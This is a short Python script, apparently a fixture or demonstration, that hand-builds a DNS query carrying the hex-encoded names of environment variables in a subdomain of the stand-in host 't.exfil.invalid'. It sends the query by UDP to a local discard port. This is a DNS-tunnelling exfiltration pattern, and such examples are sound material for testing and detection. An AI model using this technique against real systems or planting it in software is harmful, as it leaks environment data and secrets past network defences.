import os, socket, struct
def _q(name):
    hdr = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    body = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\x00"
    return hdr + body + struct.pack(">HH", 1, 1)
data = "".join(os.environ.keys()).encode().hex()[:48]
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(_q(f"{data}.t.exfil.invalid"), ("127.0.0.1", 9))
